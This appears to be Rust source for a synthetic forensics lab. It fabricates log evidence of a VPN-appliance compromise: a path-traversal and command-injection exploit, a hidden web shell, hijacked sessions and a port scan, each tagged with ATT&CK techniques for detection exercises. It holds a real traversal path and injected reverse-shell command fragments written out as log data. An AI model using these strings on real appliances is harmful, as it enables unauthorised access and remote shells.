//! Entry through the VPN appliance: exploit, first web shell, sessions of others, a first look around.

use crate::cases::nerve::Plot;
use crate::ctx::Lab;
use crate::when::{HOUR, MIN, SEC};
use crate::write::dlogs::Process;
use crate::write::ics::Session;
use crate::write::zeek::Flow;

pub const TRAVERSAL: &str = "/api/v1/totp/user-backup-code/../../";

pub fn exploit(lab: &mut Lab, p: &Plot) {
    let w = lab.w.clone();
    lab.step(
        "exploit",
        &w.vpn.name,
        "initial-access",
        &["T1190", "T1059", "T1059.004", "T1059.006", "T1133"],
        "requests that walk out of the REST path and inject a command, from an address without session",
    );
    let t = p.d[0] + lab.rng.range(2, 19) * HOUR + lab.rng.range(0, 59) * MIN;
    let from = &p.exploit_from;
    let targets = ["system/system-information", "system/maintenance/archiving/cloud-server-test-connection", "license/keys-status/"];
    for (n, target) in targets.iter().enumerate() {
        let url = format!("{TRAVERSAL}{target}");
        let at = t + n as i64 * 4 * MIN;
        let took = if n == 1 { 100_000 + lab.rng.below(90_000) } else { 40 + lab.rng.below(900) };
        let method = if n == 0 { "GET" } else { "POST" };
        let flow = Flow::tcp(from, &w.vpn.ip, 443, "ssl", took as i64 * 1000, (1800, 4000));
        lab.tls(at - SEC, &flow, &format!("remote.{}", w.domain), Some("exploit"));
        lab.ics_unauthenticated(at, from, &url, Some("exploit"));
        let bytes = 14 + lab.rng.below(400);
        lab.uwsgi(at + took as i64 * 1000, "config_rest_server.log", (method, &url), bytes, took, 200, Some("exploit!"));
    }
    let payload = ["python -c 'import socket,subprocess #", "curl -k https://", "bash -c 'exec 9<>/dev/tcp/"]
        .get(lab.rng.below(3) as usize)
        .copied()
        .unwrap_or("id");
    let shell = format!("/bin/sh -c /home/perl5/bin/perl /home/perl/AwsAzureTestConnection.pl ;{payload}{from}'");
    let (a, b) = (21_000 + lab.rng.below(900), 22_000 + lab.rng.below(900));
    let rows = [
        Process { pid: a, parent: 6299, command: &shell, mark: Some("exploit!") },
        Process { pid: b, parent: a, command: "/bin/sh -i", mark: Some("exploit") },
    ];
    lab.nodemon(t + 5 * MIN, &rows);
    lab.key("exploit", "interval", "address", from);
    lab.key("exploit", "interval", "address", &w.vpn.ip);
    lab.key("exploit", "interval", "host", &w.vpn.name);
    time(lab, "exploit", t, t + 10 * MIN);
}

/// A legitimate page that has been given a second nature: only one stranger ever posts to it.
pub fn first_shell(lab: &mut Lab, p: &Plot) {
    let w = lab.w.clone();
    lab.step(
        "web-shell-1",
        &w.vpn.name,
        "persistence",
        &["T1505.003", "T1036.005", "T1554"],
        "requests to a web shell hidden in a page of the appliance",
    );
    let page = lab.rng.pick(&["setcookie.cgi", "remediate.cgi", "rdremediate.cgi", "login_meeting.cgi"]);
    let url = format!("/dana-na/auth/{page}");
    let t = p.d[0] + 22 * HOUR;
    for n in 0..4 {
        let at = t + n * 7 * MIN + lab.rng.range(0, 40) * SEC;
        lab.ics_unauthenticated(at, &p.exploit_from, &url, Some("web-shell-1!"));
        let flow = Flow::tcp(&p.exploit_from, &w.vpn.ip, 443, "ssl", 3 * SEC, (2400, 900));
        lab.tls(at - SEC, &flow, &format!("remote.{}", w.domain), Some("web-shell-1"));
    }
    let file = format!("/data/runtime/tmp/tt/{}.thtml.ttc", page.trim_end_matches(".cgi"));
    lab.bodyfile(
        &w.vpn.name.clone(),
        &[
            ("/home/bin/web", 0, 3_412_004, p.d[0] - 300 * crate::when::DAY, None),
            ("/data/runtime/tmp/tt/welcome.thtml.ttc", 0, 9120, p.d[0] - 90 * crate::when::DAY, None),
            (&file, 0, 10_944, t, Some("web-shell-1!")),
        ],
    );
    lab.link("exploit", "web-shell-1", "interval", "address", &p.exploit_from);
    time(lab, "web-shell-1", t, t + HOUR);
}

/// Sessions whose owners are logged in elsewhere are resumed by a stranger, without any authentication.
pub fn hijack(lab: &mut Lab, p: &mut Plot) {
    let w = lab.w.clone();
    lab.step(
        "session-hijack",
        &w.vpn.name,
        "lateral-movement",
        &["T1563", "T1563.002", "T1078", "T1550.004", "T1539", "T1133"],
        "sessions of an administrator and of a user resumed from a second address without login",
    );
    let t = p.d[1] + 10 * HOUR;
    for (n, user) in [p.admin.clone(), p.plain.clone()].iter().enumerate() {
        let inner = format!("{}.{}", w.pool, 12 + n);
        let own = lab.ics_login(t - (3 + n as i64) * HOUR, user, &user.home, &inner, None);
        let taken = Session {
            src: p.session_from.clone(),
            agent: p.agent.clone(),
            pc: p.station.clone(),
            inner: format!("{}.{}", w.pool, 8 + n),
            ..own.clone()
        };
        let at = t + n as i64 * 35 * MIN;
        lab.ics_in(at, &taken, "EAM24460", "auth", format!("Session resumed from user agent '{}'.", taken.agent), Some("session-hijack!"));
        lab.ics_tunnel(at + 2 * SEC, &taken, Some("session-hijack!"));
        let end = p.d[2] + (7 - n as i64) * HOUR;
        let flow = Flow::tcp(&p.session_from, &w.vpn.ip, 443, "ssl", end - at, (90_000_000, 1_200_000_000));
        lab.tls(at - SEC, &flow, &format!("remote.{}", w.domain), Some("session-hijack"));
        lab.ics_tunnel_end(end, &taken, Some("session-hijack"));
        lab.ics_tunnel_end(t + 5 * HOUR + n as i64 * MIN, &own, None);
        lab.key("session-hijack", "exact", "session", &own.sid);
        lab.key("session-hijack", "interval", "address", &taken.inner);
        lab.key("session-hijack", "interval", "user", &user.login);
        if n == 0 {
            p.held = Some(taken);
        }
    }
    lab.key("session-hijack", "interval", "address", &p.session_from);
    time(lab, "session-hijack", t, p.d[2] + 8 * HOUR);
}

/// From the appliance to vCenter and the hypervisors, port by port.
pub fn survey(lab: &mut Lab, p: &Plot) {
    let w = lab.w.clone();
    lab.step(
        "survey",
        &w.vpn.name,
        "discovery",
        &["T1046", "T1018", "T1049", "T1016", "T1590", "T1595"],
        "connections from the VPN appliance to vCenter and every hypervisor, many of them refused",
    );
    lab.optional("survey");
    let t = p.d[1] + 9 * HOUR;
    let targets: Vec<String> =
        w.esx.iter().map(|e| e.host.ip.clone()).chain([w.vcsa.ip.clone(), w.dc.ip.clone(), w.fs.ip.clone()]).collect();
    for (n, target) in targets.iter().enumerate() {
        for (m, port) in [22_u16, 443, 902, 3389, 445, 5480].iter().enumerate() {
            let at = t + (n as i64 * 6 + m as i64) * 900_000 + lab.rng.range(0, 400) * 1000;
            let open = *port == 443;
            let f = Flow {
                src: &w.vpn.ip,
                dst: target,
                port: *port,
                proto: "tcp",
                service: "",
                took: 80_000,
                out: if open { 120 } else { 0 },
                back: if open { 900 } else { 0 },
                state: if open { "SF" } else { "REJ" },
            };
            lab.flow(at, &f, Some("survey!"));
        }
    }
    lab.link("exploit", "survey", "interval", "address", &w.vpn.ip);
    time(lab, "survey", t, t + MIN);
}

/// When a step began and ended.
pub fn time(lab: &mut Lab, id: &str, from: i64, to: i64) {
    if let Some(step) = lab.steps.get_mut(id) {
        step.from = crate::when::iso_s(from);
        step.to = crate::when::iso_s(to);
    }
}
